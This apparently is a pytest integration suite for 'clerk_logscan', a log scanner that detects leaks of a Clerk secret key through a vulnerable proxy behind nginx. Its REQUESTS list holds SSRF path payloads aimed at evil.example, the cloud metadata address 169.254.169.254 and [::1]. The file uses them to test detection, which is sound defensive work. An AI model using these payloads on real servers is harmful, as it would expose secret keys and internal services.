"""The whole job on real parts: raw attacks to nginx, the vulnerable package behind it, and the logs that both wrote."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pytest
from wire import TIMEOUT, Backend, Sent, wait_for

TIMED = """'$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" '
          '"$http_user_agent" "$http_x_forwarded_for" host=$host rt=$request_time uct="$upstream_connect_time" '
          'uht="$upstream_header_time" urt="$upstream_response_time" ua="$upstream_addr"'"""
REQUESTS = [
    b"/__clerk/v1/client?_clerk_js_version=5.60.0",
    b"/__clerk//v1/client",
    b"/__clerk//evil.example/x",
    b"/__clerk/\\backslash.evil.example/x",
    b"/__clerk///three.evil.example/x",
    b"/__clerk/v1/..//dots.evil.example/x",
    b"/__clerk//%65ncoded.evil.example/x",
    b"/__clerk/%2Fharmless.evil.example/x",
    b"/__clerk//169.254.169.254/latest/meta-data/",
    b"/__clerk//[::1]:8443/x",
    b"/__clerk//b\xc3\xbccher.example/",
    b"/other//evil.example/x",
    b"/x?next=/__clerk//query.evil.example/",
]
# Node's parser refuses raw bytes above 0x7e, so the target with an umlaut is answered 400 and leaks nothing.
LEAKS = [
    "evil.example",
    "backslash.evil.example",
    "three.evil.example",
    "dots.evil.example",
    "encoded.evil.example",
    "169.254.169.254",
    "[::1]",
]


@dataclass
class Application:
    """The vulnerable application: its port, its own log, and who was sent the key."""

    port: int
    log: Path
    record: Path

    def wait_for_log(self, requests: int) -> None:
        """Wait until as many requests are logged to their end: the line is written after the answer."""
        wait_for(lambda: self.log.read_bytes().count(b'"request completed"') >= requests, "the application's log")

    def key_sent_to(self) -> list[str]:
        """Return the foreign hosts that got the key, in order; Clerk's own is not one."""
        rows = [orjson.loads(line) for line in self.record.read_bytes().splitlines()] if self.record.exists() else []
        return [row["host"] for row in rows if row["host"] != "frontend-api.clerk.dev"]


@pytest.fixture
def application(node_packages: Path, real_part: Callable[[str], str], tmp_path: Path) -> Iterator[Application]:
    """Start the vulnerable application on a port of its own."""
    log, record = tmp_path / "app.log", tmp_path / "record.jsonl"
    process = subprocess.Popen(
        [real_part("node"), str(Path(__file__).with_name("app.mjs")), str(log), str(record)],
        stdout=subprocess.PIPE, env=os.environ | {"CLERK_LOGSCAN_NODE": str(node_packages)},
    )  # fmt: skip
    assert process.stdout is not None
    try:
        port = int(process.stdout.readline())
        yield Application(port, log, record)
    finally:
        process.terminate()
        process.wait(TIMEOUT)
        process.stdout.close()


def analyze(folder: Path, *arguments: str) -> tuple[int, dict[str, Any]]:
    """Run the command and return its exit code and its report."""
    line = [sys.executable, "-m", "clerk_logscan", "analyze", *arguments, "-o", str(folder / "report.json"), "-q"]
    result = subprocess.run(line, cwd=folder, capture_output=True, text=True, timeout=60, check=False)
    assert "Traceback" not in result.stderr
    return result.returncode, orjson.loads((folder / "report.json").read_bytes())


def hosts(report: dict[str, Any], rule: str = "off-host-target") -> list[str]:
    """Return the hosts of a rule's findings in order of the log."""
    rows = sorted(report["findings"], key=lambda row: (row["source"], row["line_number"]))
    return [row["target_host"] for row in rows if row["rule_id"] == rule]


def test_the_hosts_found_are_those_that_got_the_key(nginx: Callable[..., Any], application: Application) -> None:
    """nginx' log alone, and with the application's, name exactly the hosts to which the package sent the key."""
    location = f"""location / {{
        proxy_pass http://127.0.0.1:{application.port};
        proxy_set_header Host $host;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
    }}"""
    server = nginx({"timed": TIMED}, location)
    for target in REQUESTS:
        server.send(Sent(target))
    folder = server.stop()
    sent_to = [host.rsplit(":", 1)[0] if host.endswith("8443") else host for host in application.key_sent_to()]
    leaks = [host for host in sent_to if host != "v1"]
    assert (len(sent_to), leaks) == (8, LEAKS)

    code, report = analyze(folder, "timed.log")
    assert (code, report["verdict"]) == (1, "key-exposed")
    assert hosts(report) == leaks
    assert [row["rule_id"] for row in report["findings"] if row["target_host"] == "v1"] == ["client-double-slash"]

    application.wait_for_log(len(REQUESTS) - 1)
    code, report = analyze(folder, "timed.log", "app.log")
    assert (code, report["verdict"]) == (1, "key-exposed")
    assert sum(incident["events"] for incident in report["incidents"]) == len(leaks)
    events = {row["event_id"] for row in report["findings"] if row["rule_id"] == "off-host-target"}
    assert len(events) == len(leaks)
    harmless = [row for row in report["findings"] if "%2Fharmless" in row["request_target"]]
    assert {row["outcome"] for row in harmless} <= {"none"}


def test_a_server_that_merges_slashes_before_it_forwards_is_seen_by_the_log_behind(
    nginx: Callable[..., Any], application: Application
) -> None:
    """`proxy_pass` with a URI forwards the merged path: a leak by nginx' log, and none by the application's."""
    location = f"location / {{ proxy_pass http://127.0.0.1:{application.port}/; proxy_set_header Host $host; }}"
    server = nginx({"timed": TIMED}, location)
    time.sleep(1 - time.time() % 1)  # nginx logs whole seconds: none shall begin meanwhile, as the clocks would differ
    for _ in range(3):
        server.send(Sent(b"/__clerk/v1/client"))
    server.send(Sent(b"/__clerk//evil.example/x"))
    folder = server.stop()
    application.wait_for_log(4)
    assert application.key_sent_to() == []
    assert analyze(folder, "timed.log")[1]["verdict"] == "key-exposed"
    # The application logged `/__clerk/evil.example/x` and no request that leaks.
    assert analyze(folder, "timed.log", "app.log")[1]["verdict"] == "attempted"


def test_without_the_package_the_log_alone_tells_the_same(nginx: Callable[..., Any], backend: Backend) -> None:
    """Where Node is missing: nginx before a plain backend, and the hosts as the oracle has them."""
    server = nginx({"combined": None}, f"location / {{ proxy_pass http://127.0.0.1:{backend.port}; }}")
    for target in REQUESTS:
        assert server.send(Sent(target)) == 200
    folder = server.stop()
    code, report = analyze(folder, "combined.log")
    assert (code, report["verdict"]) == (1, "key-exposed")
    assert hosts(report) == LEAKS
    assert report["proxy_requests"] == len(REQUESTS) - 1
    (ledger,) = report["inputs"]
    assert ledger["complete"]
    assert ledger["lines"] == ledger["searched"] == len(REQUESTS)
    assert ledger["requests"] + ledger["not_requests"] + ledger["malformed"] == ledger["examined"]
